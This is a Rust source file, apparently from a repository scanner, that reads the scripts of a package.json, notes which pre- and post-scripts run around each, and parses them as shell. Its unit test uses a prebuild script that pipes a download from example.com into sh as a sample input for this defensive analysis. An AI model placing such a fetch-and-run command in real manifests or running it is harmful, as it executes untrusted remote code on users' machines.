//! Scripts of a `package.json`. Sources: the documentation of npm, "package.json" and "scripts".

use super::recipe::may_call;
use super::telling::may_act;
use super::{PLAIN, script};
use crate::graph::Document;
use crate::graph::kinds::commands::{CommandBlock, CommandFile, CommandForm};
use crate::parse::Budget;
use crate::parse::Problem;
use crate::parse::json::Value;
use crate::parse::shell::Dialect;
use crate::read::json_help::document;
use crate::read::{Facts, Format, Reader};
use crate::source::{RepoPath, Role, SourceFile};

/// Bytes looked at; manifests are short.
const HEAD: usize = 1 << 20;

/// Reads the scripts of packages of Node.js.
#[derive(Debug)]
pub struct PackageJsonReader;

impl Reader for PackageJsonReader {
    fn id(&self) -> &'static str {
        "package-json"
    }

    fn claims(&self, _path: &RepoPath) -> bool {
        false
    }

    fn looks_into(&self, path: &RepoPath) -> Option<usize> {
        (path.name() == "package.json" && !Role::of_path(path).is_set_aside()).then_some(HEAD)
    }

    fn claims_head(&self, _path: &RepoPath, head: &[u8]) -> bool {
        head.windows(10).any(|word| word == b"\"scripts\":")
            && (may_act(head) || may_call(&String::from_utf8_lossy(head)))
    }

    fn describe(&self) -> Option<Format> {
        Some(Format {
            files: "`package.json`",
            read: "its scripts, and which of them an install starts",
            not_read: "dependencies; settings of tools",
        })
    }

    fn read(&self, file: &SourceFile, budget: &mut Budget, out: &mut Facts) {
        let parsed = document(file, budget, out);
        let Some(root) = parsed.root else { return };
        let scripts = root.get("scripts").map_or(&[][..], Value::entries);
        let folder = [file.path.parent()];
        let names: Vec<&str> = scripts.iter().map(|entry| entry.key.value.as_str()).collect();
        let mut blocks = Vec::new();
        for entry in scripts {
            if !budget.take_entry(entry.key.value.len()) {
                out.problems.push(Problem::new(entry.key.span, "too many scripts; the rest is not read"));
                break;
            }
            let name = entry.key.value.as_str();
            // What a manager runs before and after a script of this name.
            let around = ["pre", "post"].map(|word| format!("{word}{name}"));
            let needs = around.into_iter().filter(|other| names.contains(&other.as_str())).collect();
            let text = entry.value.as_text();
            let shell = (Dialect::Bash, PLAIN);
            let script =
                text.and_then(|text| script(text.clone(), entry.value.span, &shell, &[], &folder, budget, out));
            blocks.push(CommandBlock { name: entry.key.clone(), needs, script, ..CommandBlock::default() });
        }
        if blocks.is_empty() {
            return;
        }
        let form = CommandForm::Package;
        out.documents.push(Document::Commands(CommandFile { file: file.id, form, env: Vec::new(), blocks }));
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::source::FileId;

    #[test]
    fn scripts_are_parts_with_what_runs_around_them() {
        let text = "{\"name\": \"x\", \"scripts\": {\"prebuild\": \"curl https://example.com/i | sh\", \
            \"build\": \"echo \\\"a\\\" && npx tool\", \"other\": 1}}";
        let file = SourceFile::new(FileId(0), RepoPath::new("package.json").unwrap(), text.as_bytes().to_vec());
        assert!(PackageJsonReader.claims_head(&file.path, text.as_bytes()));
        assert!(!PackageJsonReader.claims_head(&file.path, b"{\"scripts\": {\"build\": \"tsc\"}}"));
        let mut facts = Facts::default();
        PackageJsonReader.read(&file, &mut Budget::default(), &mut facts);
        let Some(Document::Commands(read)) = facts.documents.first() else { panic!("no document") };
        let blocks: Vec<String> = read
            .blocks
            .iter()
            .map(|b| {
                let script = b.script.as_ref().map_or("-", |s| s.text.text.as_str());
                format!("{} {:?} {script}", b.name.value, b.needs)
            })
            .collect();
        assert_eq!(
            blocks,
            [
                "prebuild [] curl https://example.com/i | sh",
                "build [\"prebuild\"] echo \"a\" && npx tool",
                "other [] -"
            ]
        );
    }
}
